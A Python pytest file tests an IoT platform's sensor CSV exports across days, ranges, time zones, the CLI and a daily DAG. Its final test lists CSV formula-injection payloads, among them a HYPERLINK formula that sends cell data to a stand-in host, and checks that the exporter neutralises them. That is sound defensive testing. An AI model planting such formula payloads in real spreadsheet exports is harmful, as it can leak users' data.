"""Seed 000's CSV exports (exports.sensor_csv, DAG iot_export_csv, `iot export-csv`) on a real warehouse."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, timedelta

import pytest
from click.testing import CliRunner

from iot_core.connections import pg_connect
from iot_core.settings import get_settings

MEASURES = ("iaq", "temperature", "humidity", "pressure", "voc", "co2", "iaq_accuracy")
DAY = date(2026, 3, 1)
MIDNIGHT = datetime(2026, 3, 2, tzinfo=UTC)  # the first instant of the next day


def read_csv(path) -> list[list[str]]:
    with open(path, newline="") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def export_root(tmp_path_factory):
    return tmp_path_factory.mktemp("exports")


@pytest.fixture(scope="module")
def readings(isolated_warehouse):
    """stage.stg_sensor_readings as dbt builds it: two devices, the last 30 minutes of DAY and the
    first 5 of the next day, and one device missing its co2 reading at one minute."""
    with pg_connect("transformer") as conn:
        conn.execute("""create table stage.stg_sensor_readings (
            time timestamptz not null, device_id text not null, measure_name text not null,
            value double precision, primary key (device_id, measure_name, time))""")
        with conn.cursor().copy("copy stage.stg_sensor_readings from stdin") as copy:
            for device in ("aq-b", "aq-a"):
                for minute in range(-30, 5):
                    t = MIDNIGHT + timedelta(minutes=minute)
                    for i, m in enumerate(MEASURES):
                        if device == "aq-b" and minute == -10 and m == "co2":
                            continue
                        copy.write_row((t, device, m, 100.0 + minute + i))
    return MIDNIGHT


def test_missing_stage_table_is_a_clear_error(isolated_warehouse, export_root):
    from exports.sensor_csv import WarehouseNotBuilt, export_day

    with pg_connect("transformer", autocommit=True) as conn:
        if conn.execute("select to_regclass('stage.stg_sensor_readings')").fetchone()[0]:
            pytest.skip("stage table already created by an earlier test")
    with pytest.raises(WarehouseNotBuilt, match="run the extract and the stage transform"):
        export_day(DAY, root=export_root)
    assert not any(export_root.rglob("*.csv")) and not any(export_root.rglob("*.partial"))


def test_day_file_is_wide_and_holds_exactly_that_day(readings, export_root):
    from exports.sensor_csv import export_day

    result = export_day(DAY, root=export_root)
    assert result.path == export_root / "sensors" / "2026-03-01" / "raw.csv"
    rows = read_csv(result.path)
    assert rows[0] == ["time", "deviceId", *MEASURES]
    body = rows[1:]
    assert result.rows == len(body) == 2 * 30          # 23:30..23:59 for two devices, not 00:00
    assert [r[1] for r in body] == ["aq-a"] * 30 + ["aq-b"] * 30   # ordered by device, then time
    assert body[0][0] == (MIDNIGHT - timedelta(minutes=30)).isoformat()
    assert body[-1][0] == (MIDNIGHT - timedelta(minutes=1)).isoformat()
    assert body[0][2:] == [str(100.0 - 30 + i) for i in range(7)]
    gap = next(r for r in body if r[1] == "aq-b" and r[0] == (MIDNIGHT - timedelta(minutes=10)).isoformat())
    assert gap[2 + MEASURES.index("co2")] == ""      # a missing measure is an empty cell, the row stays

    next_day = export_day(DAY + timedelta(days=1), root=export_root)
    times = {r[0] for r in read_csv(next_day.path)[1:]}
    assert MIDNIGHT.isoformat() in times and next_day.rows == 2 * 5   # midnight belongs to the new day


def test_rerunning_a_day_rewrites_the_same_bytes_atomically(readings, export_root):
    from exports.sensor_csv import export_day

    first = export_day(DAY, root=export_root).path.read_bytes()
    again = export_day(DAY, root=export_root)
    assert again.path.read_bytes() == first
    assert not list(export_root.rglob("*.partial"))


def test_days_follow_the_configured_time_zone(readings, export_root, monkeypatch):
    from exports.sensor_csv import export_day

    monkeypatch.setenv("DAY_TIMEZONE", "Australia/Sydney")  # UTC+11 in March: 00:00 UTC is 11:00 there
    get_settings.cache_clear()
    try:
        result = export_day(date(2026, 3, 2), root=export_root / "sydney")
    finally:
        monkeypatch.undo()
        get_settings.cache_clear()
    assert result.start == datetime(2026, 3, 1, 13, 0, tzinfo=UTC)
    assert result.rows == 2 * 35                       # every reading falls on Sydney's 2 March


def test_empty_day_gets_a_header_only_file(readings, export_root, caplog):
    from exports.sensor_csv import export_day

    result = export_day(date(2026, 2, 1), root=export_root)
    assert result.rows == 0 and read_csv(result.path) == [["time", "deviceId", *MEASURES]]
    assert "header only" in caplog.text


def test_range_and_latest_exports(readings, export_root):
    from exports.sensor_csv import export_latest, export_range

    span = export_range(DAY, DAY + timedelta(days=1), root=export_root)
    assert span.path == export_root / "sensors" / "export" / "20260301.20260302" / "raw.csv" and span.rows == 70
    latest = export_latest(2, DAY + timedelta(days=1), root=export_root)
    assert latest.path == export_root / "sensors" / "latest" / "2-days" / "raw.csv"
    assert latest.path.read_bytes() == span.path.read_bytes()
    with pytest.raises(ValueError, match="before the first day"):
        export_range(DAY, DAY - timedelta(days=1), root=export_root)
    with pytest.raises(ValueError, match="at least 1"):
        export_latest(0, DAY, root=export_root)


def test_cli_exports_a_range(readings, export_root):
    from iot_cli.main import cli

    runner = CliRunner()
    out = runner.invoke(cli, ["export-csv", "--from", "2026-03-01", "--to", "2026-03-02",
                              "--root", str(export_root / "cli"), "--json"])
    assert out.exit_code == 0, out.output
    assert '"rows": 70' in out.output
    bad = runner.invoke(cli, ["export-csv", "--day", "2026-03-01", "--latest", "3"])
    assert bad.exit_code != 0 and "exactly one of" in bad.output


def test_dag_exports_its_day_and_the_latest_days(platform, load_dag, readings, tmp_path, monkeypatch):
    monkeypatch.setenv("EXPORT_DIR", str(tmp_path))
    get_settings.cache_clear()
    try:
        dag = load_dag("iot_export_csv")
        assert dag.tags and dag.doc_md
        assert type(dag.timetable).__name__ == "CronDataIntervalTimetable"   # really scheduled: daily
        assert dag.timetable.expression == "0 0 * * *"
        # a run at 2 March 00:00 covers the interval [1 March, 2 March): it exports 1 March
        run = dag.test(logical_date=datetime(2026, 3, 2, tzinfo=UTC), run_conf={"latest_days": 3})
    finally:
        monkeypatch.undo()
        get_settings.cache_clear()
    assert run.state == "success"
    day_rows = read_csv(tmp_path / "sensors" / "2026-03-01" / "raw.csv")
    assert len(day_rows) == 1 + 60
    latest = read_csv(tmp_path / "sensors" / "latest" / "3-days" / "raw.csv")  # 27 Feb .. 1 Mar
    assert latest == day_rows


def test_formula_cells_are_neutralised_and_numbers_kept(readings, export_root):
    """A device id a spreadsheet would run as a formula is written as text; negative numbers stay."""
    from exports.sensor_csv import export_range, neutralise

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    assert [neutralise(d) for d in hostile] == ["'" + d for d in hostile]
    assert neutralise("aq-a") == "aq-a" and neutralise("a=b") == "a=b"
    day = date(2026, 1, 15)
    t = datetime(2026, 1, 15, 8, tzinfo=UTC)
    with pg_connect("transformer") as conn:
        for device in hostile:
            for i, m in enumerate(MEASURES):
                conn.execute("insert into stage.stg_sensor_readings values (%s, %s, %s, %s)", (t, device, m, -3.5 - i))
    rows = read_csv(export_range(day, day, root=export_root).path)
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + d for d in hostile)
    assert all(r[2:] == [str(-3.5 - i) for i in range(len(MEASURES))] for r in rows[1:])
